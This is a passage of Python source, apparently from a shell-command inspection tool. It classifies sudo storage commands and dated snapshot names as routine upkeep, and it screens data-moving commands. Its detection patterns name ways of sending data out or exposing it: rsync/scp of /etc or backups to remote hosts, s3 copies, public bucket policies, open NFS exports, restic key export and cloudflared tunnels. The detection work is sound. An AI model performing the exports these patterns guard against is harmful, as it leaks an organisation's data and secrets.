    """bash/system.py's inspection: root's storage upkeep (STORAGE_QUERIES) run by a plain `sudo`."""
    check = STORAGE_QUERIES.get(cmd.name)
    if check is None or not _plain_sudo(cmd) or not check(vals, [v for v in vals if v[:1] != "-"]):
        return None
    if cmd.name == "mount" and _symlinked_mount_point(cmd.node):
        return None
    return f"`{cmd.name}`'s storage upkeep"


# a snapshot named at run time by the date (`tank/home@pre-upgrade-$(date +%F)`): only conversions that print digits
# and letters (`%n`, `%t`, `%c`, `%e`, `%D` print blanks or slashes that split the word or make another path)
_DATE_WORD = re.compile(r"\$\(date \+(?:%[YymdHMSsFjuwVUGgzTR]|[-_.:])++\)")
_NAME_CHARS = re.compile(r"[\w.@:%+-]*+")


def _dated_value(cmd: Cmd, k: int, w) -> str | None:
    """The word `w` (argument `k`) with its `$(date …)` replaced by digits, when the date is only in the snapshot's
    own name: after `@` of a ZFS snapshot, in the last part of a btrfs snapshot's path, in `lvcreate -n`'s name."""
    t = w.text
    if "$(" not in t:
        return None
    head, rest = t[:t.index("$(")], _DATE_WORD.sub("", t)
    if not head or "/" in t[len(head):] or not _NAME_CHARS.fullmatch(rest.replace("/", "")):
        return None
    if cmd.name == "zfs":
        ok = "@" in head
    elif cmd.name == "btrfs":
        ok = head[:1] == "/"
    else:
        ok = k > 0 and cmd.args[k - 1].value in ("-n", "--name") or head.startswith("--name=") and len(head) > 7
    return _DATE_WORD.sub("20240101", t) if ok else None


def dated_upkeep(cmd: Cmd) -> str | None:
    """bash/system.py's inspection of a word known only at run time: a snapshot named with `$(date …)`."""
    if cmd.name not in ("zfs", "btrfs", "lvcreate"):
        return None
    vals = [w.value if w.value is not None else _dated_value(cmd, k, w) for k, w in enumerate(cmd.args)]
    if None in vals:
        return None
    return root_upkeep(cmd, vals)  # type: ignore[arg-type]


def storage_upkeep(a, cmd: Cmd) -> bool:
    """bash/system.py's _mount: a mount STORAGE_QUERIES takes as upkeep, or the unmount of a folder this input
    mounted so, has no review of its own; another mount taken down (a share others' jobs write to) is still reviewed
    there."""
    vals = [w.value for w in cmd.args]
    if None in vals or cmd.name not in ("mount", "umount") or not STORAGE_QUERIES[cmd.name](vals, []):  # type: ignore
        return False
    if cmd.name == "mount":
        return not _symlinked_mount_point(cmd.node)
    mounted = {m[0][1].rstrip("/") for doc, c in a.ctx.commands if doc is a.doc and c.name == "mount" and
               c.node.start_byte < cmd.node.start_byte and None not in (vs := [w.value for w in c.args]) and
               storage_mount(vs) and (m := _mount_vals(vs)) is not None}  # type: ignore[arg-type]
    return all(v.rstrip("/") in mounted for v in vals if v[:1] != "-")


HANDLERS: dict = {
    **{n: [_sent] for n in NET_SENDERS},
    "velero": [_velero],
    "rsync": [_copied_out],
    "scp": [_copied_out],
    "rclone": [_rclone],
    "mc": [_mc],
    "az": [_az],
    "aws": [_aws, _filled],
    "zfs": [_zfs],
    "exportfs": [_exportfs],
    "restic": [_restic_key, _filled],
    "borg": [_filled],
    "gsutil": [_filled],
    "cloudflared": [_tunnel],
}
_FEEDS_RX = re.compile(r"restic|borg|s3 cp|gsutil|rclone|mc (?:cat|share)|storage (?:cat|sign-url)|zfs|btrfs|"
                       r"generate-sas|presign|signurl|/var/backups")
# a copier's destination named by a dotted host or an address (`user@203.0.113.9:`), and a source the organisation's
_DOTTED_REMOTE = re.compile(r"\.[\w-]*+:|\]:")  # (from each dot to the next: read once)
_DATA_HINT = mentions("/var/", "/srv", "/mnt", "/data", "/backup", "/home", "/root", "/etc", "/opt/", "~", "dump",
                      "backup", ".sql", ".bak", ".rdb", ".snap", "$HOME")
SCREENS: dict = {
    **{n: (lambda text: _FEEDS_RX.search(text) is not None) for n in NET_SENDERS},
    "velero": mentions("download", "location"),
    "rsync": lambda text: _DOTTED_REMOTE.search(text) is not None and _DATA_HINT(text),
    "scp": lambda text: _DOTTED_REMOTE.search(text) is not None and _DATA_HINT(text),
    "rclone": lambda text: re.search(r"(?:^|[\s\"'=]):[a-z]|config create", text) is not None,
    "mc": mentions("anonymous", "policy", "alias set", "config host", "MC_HOST_"),
    "az": mentions("--public-access"),
    "aws": lambda text: "put-bucket-replication" in text or "s3://" in text and " cp " in text,
    "zfs": mentions("share"),
    "exportfs": mentions("*", "0.0.0.0", "::/0"),
    "restic": mentions("key", ">"),
    "borg": mentions("key export", "--stdout", "export-tar"),
    "gsutil": mentions("gs://"),
    "cloudflared": mentions("--url"),
}
